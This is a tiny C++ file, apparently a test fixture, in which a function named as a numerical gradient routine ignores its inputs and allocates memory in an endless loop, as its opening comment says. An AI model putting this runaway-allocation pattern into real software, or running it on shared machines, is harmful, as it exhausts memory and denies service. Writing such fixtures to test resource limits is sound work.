// Allocates without end.
#include <functional>
#include <list>
#include <vector>

namespace hood {

using FunctionOfMany = std::function<double(const std::vector<double>&)>;

std::vector<double> measured_gradient(const FunctionOfMany&,
                                      std::vector<double> numbers, double) {
  std::list<std::vector<double>> more;
  while (true) more.emplace_back(1 << 20, 1.0);
  return numbers;
}

}  // namespace hood
